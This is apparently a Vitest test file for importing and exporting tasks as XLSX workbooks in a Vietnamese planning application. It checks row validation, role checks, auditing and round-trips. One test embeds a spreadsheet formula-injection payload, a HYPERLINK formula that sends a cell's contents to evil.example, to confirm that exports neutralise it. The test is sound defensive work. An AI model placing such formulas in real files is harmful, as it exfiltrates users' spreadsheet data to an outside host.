import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { buildTestApp, type TestApp } from '../../../../tests/support/app.js';
import { as, enrolTotp, userWithRoles, type Browser } from '../../../../tests/support/sessions.js';
import { multipartFile } from '../../../../tests/support/uploads.js';
import { auditEvents } from '../../db/platform-schema.js';
import { tasks } from './schema.js';
import { taskColumns, tasksSheetName } from './xlsx-columns.js';

// Files are written and read with SheetJS, an implementation independent of the exceljs the server uses.
let t: TestApp;
let manager: Browser;

beforeAll(async () => {
  t = await buildTestApp();
  const pm = await userWithRoles(t, 'pm@skhcn.gov.vn', [{ role: 'programme_manager', unitCode: 'SKHCN', includesSubtree: true }]);
  await enrolTotp(t, pm.browser);
  manager = pm.browser;
});
afterAll(() => t.close());

const headers = taskColumns.map((c) => c.header);

function workbookOf(rows: string[][]): Buffer {
  const book = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([headers, ...rows]), tasksSheetName);
  return XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
}

/** The importable columns of a workbook's task sheet, as text. */
function readRows(bytes: Buffer): string[][] {
  const book = XLSX.read(bytes, { type: 'buffer' });
  const sheet = book.Sheets[tasksSheetName]!;
  const rows = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: false, defval: '' });
  return rows.map((r) => r.slice(0, headers.length).map((v) => String(v)));
}

async function createPlan(code: string, groups = 0): Promise<string> {
  const res = await as(
    t.app,
    manager,
  )({
    method: 'POST',
    url: '/api/plans',
    payload: { code, titleVi: `Kế hoạch ${code}`, issuingBodyVi: 'UBND Thành phố', periodStart: 2026, periodEnd: 2030 },
  });
  expect(res.statusCode, res.body).toBe(201);
  const id = res.json().id as string;
  for (let i = 1; i <= groups; i++)
    await as(t.app, manager)({ method: 'POST', url: `/api/plans/${id}/groups`, payload: { titleVi: `Nhóm nhiệm vụ ${i}` } });
  return id;
}

const importInto = (planId: string, bytes: Buffer, browser: Browser | null = manager) =>
  as(t.app, browser)({ method: 'POST', url: `/api/plans/${planId}/import`, ...multipartFile('nhiem-vu.xlsx', bytes) });

const units = ['SYT', 'SKHCN', 'TTCDS', 'SGDDT', '26740', '26743'];
function generatedRows(n: number): string[][] {
  return Array.from({ length: n }, (_, i) => [
    `IMP-${String(i + 1).padStart(4, '0')}`,
    '',
    '',
    `Nhiệm vụ nhập từ tệp số ${i + 1}`,
    `Imported task ${i + 1}`,
    '',
    units[i % units.length]!,
    i % 5 === 0 ? 'SNV, STC' : '',
    '2026-04-01',
    `2026-${String(5 + (i % 8)).padStart(2, '0')}-15`,
    'Báo cáo kết quả',
    ['high', 'normal', 'low'][i % 3]!,
    '',
    i % 7 === 0 ? 'không' : 'có',
    'quarterly',
  ]);
}

describe('task import (XLSX)', () => {
  it('serves a template whose header row is the import columns', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/plans/import-template.xlsx' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    const rows = readRows(res.rawPayload);
    expect(rows[0]).toEqual(headers);
    expect(rows[1]![0]).toBe('NV-07.5');
  });

  it('refuses a 2,000-row file with 3 bad rows: nothing imported, the 3 rows named with their reasons', async () => {
    const planId = await createPlan('IMP/KH-1');
    const rows = generatedRows(2000);
    rows[99]![6] = 'KHONG-CO'; // spreadsheet row 101: unknown lead unit
    rows[999]![9] = '2026-13-40'; // row 1001: not a date
    rows[1799]![0] = 'IMP-0005'; // row 1801: a code already used on row 6
    const res = await importInto(planId, workbookOf(rows));
    expect(res.statusCode, res.body).toBe(400);
    const error = res.json().error;
    expect(error.code).toBe('VALIDATION');
    expect(error.message.vi).toMatch(/^Không nhập nhiệm vụ nào: 3 dòng lỗi; dòng 101: Không có đơn vị mã 'KHONG-CO'/);
    expect(error.details.rows.map((r: { row: number; column: string }) => [r.row, r.column])).toEqual([
      [101, 'leadUnitCode'],
      [1001, 'dueOn'],
      [1801, 'code'],
    ]);
    expect(error.details.rows[2].message).toEqual({ vi: "Mã 'IMP-0005' trùng với dòng 6", en: "Code 'IMP-0005' repeats row 6" });
    expect(await t.testDb.database.db.$count(tasks, eq(tasks.planId, planId))).toBe(0);
  });

  it('imports a good 2,000-row file in one transaction with one audit row; only programme managers may', async () => {
    const planId = await createPlan('IMP/KH-2');
    const bytes = workbookOf(generatedRows(2000));
    const officer = await userWithRoles(t, 'can-bo@syt.gov.vn', [{ role: 'unit_officer', unitCode: 'SYT' }]);
    expect((await importInto(planId, bytes, officer.browser)).statusCode).toBe(403);
    const res = await importInto(planId, bytes);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toEqual({ imported: 2000, errors: [] });
    expect(await t.testDb.database.db.$count(tasks, eq(tasks.planId, planId))).toBe(2000);
    expect(
      await t.testDb.database.db.$count(auditEvents, and(eq(auditEvents.action, 'plans.task.import'), eq(auditEvents.entityId, planId))),
    ).toBe(1);
    // Importing the same file again clashes on every code, and adds nothing.
    const again = await importInto(planId, bytes);
    expect(again.statusCode).toBe(400);
    expect(again.json().error.details.rows).toHaveLength(2000);
    expect(await t.testDb.database.db.$count(tasks, eq(tasks.planId, planId))).toBe(2000);
  });

  it('exports a title a spreadsheet would run as text (leading apostrophe), and imports it back as it was written', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Mở")';
    const [row] = generatedRows(1);
    row![0] = 'CT-01';
    row![3] = formula;
    row![5] = '-5 % chi phí so với năm trước';
    const first = await createPlan('CT/KH-1');
    expect((await importInto(first, workbookOf([row!]))).statusCode).toBe(200);
    const exported = await as(t.app, manager)({ method: 'GET', url: `/api/plans/${first}/export.xlsx` });
    const cells = readRows(exported.rawPayload).find((r) => r[0] === 'CT-01')!;
    expect([cells[3], cells[5]]).toEqual([`'${formula}`, "'-5 % chi phí so với năm trước"]);
    const second = await createPlan('CT/KH-2');
    expect((await importInto(second, exported.rawPayload)).statusCode).toBe(200);
    const [copy] = await t.testDb.database.db
      .select()
      .from(tasks)
      .where(and(eq(tasks.planId, second), eq(tasks.code, 'CT-01')));
    expect([copy?.titleVi, copy?.descriptionVi]).toEqual([formula, '-5 % chi phí so với năm trước']);
  });

  it('round-trips: the export of Plan 4354/KH-UBND imports into another plan and exports again identically', async () => {
    const plans = (await t.app.inject({ method: 'GET', url: '/api/plans' })).json().items as Array<{ id: string; code: string }>;
    const source = plans.find((p) => p.code === '4354/KH-UBND')!;
    const exported = await as(t.app, manager)({ method: 'GET', url: `/api/plans/${source.id}/export.xlsx` });
    expect(exported.statusCode).toBe(200);
    const first = readRows(exported.rawPayload);
    expect(first[0]).toEqual(headers);
    expect(first.length - 1).toBeGreaterThanOrEqual(35);
    const row = first.find((r) => r[0] === 'NV-01.1')!;
    expect(row.slice(0, 8)).toEqual([
      'NV-01.1',
      '1',
      '',
      'Kiện toàn Ban Chỉ đạo phát triển khoa học công nghệ, đổi mới sáng tạo, chuyển đổi số và Đề án 06',
      'Strengthen the steering committee for S&T, innovation, digital transformation and Project 06',
      '',
      'VPUBND',
      'SKHCN, SNV',
    ]);

    const copy = await createPlan('RT/KH-UBND', 10);
    const imported = await importInto(copy, exported.rawPayload);
    expect(imported.statusCode, imported.body).toBe(200);
    const second = readRows((await as(t.app, manager)({ method: 'GET', url: `/api/plans/${copy}/export.xlsx` })).rawPayload);
    expect(second).toEqual(first);
  });
});
